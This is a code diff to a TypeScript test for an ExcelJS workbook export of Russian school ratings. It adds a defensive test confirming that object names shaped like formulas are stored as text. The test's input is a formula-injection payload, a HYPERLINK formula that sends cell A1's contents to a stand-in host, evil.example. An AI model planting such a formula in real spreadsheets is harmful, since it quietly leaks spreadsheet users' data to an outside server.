@@ -46,14 +46,15 @@ const content: StoredRating = {
   rating,
 };
 
-async function open(): Promise<ExcelJS.Workbook> {
+async function open(objectName?: string): Promise<ExcelJS.Workbook> {
+  const objects = objectName ? content.objects.map((o, i) => (i === 0 ? { ...o, name: objectName } : o)) : content.objects;
   const file = await ratingWorkbook({
     catalogue: { name: 'Методика', version: 2 },
     period: { name: '2021 год' },
     title: 'Район: школы',
     objectHeader: 'Организация',
     computedAt: '2026-01-15T10:00:00.000Z',
-    content,
+    content: { ...content, objects },
     zones: { year: Y2021, gapRule: DEFAULT_GAP_RULE },
   });
   const wb = new ExcelJS.Workbook();
@@ -98,5 +99,15 @@ describe('the workbook of a rating', () => {
     expect(values).toContain('2021 г.: Зеленая зона 59–82; Желтая зона 47–58; Красная зона 0–45');
     expect(values.some((v) => v.startsWith('Зоны 2021 г. по сводному баллу: Зеленая зона 59–82'))).toBe(true);
     expect(values).toContain('Методика (версия 2)');
+  });
+
+  it('writes a name that looks like a formula as text, never as a formula', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Школа В")';
+    const ws = (await open(hostile)).getWorksheet('Рейтинг');
+    const cells: ExcelJS.Cell[] = [];
+    ws?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
+    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+    const named = cells.find((c) => c.value === hostile);
+    expect(named?.type).toBe(ExcelJS.ValueType.String);
   });
 });
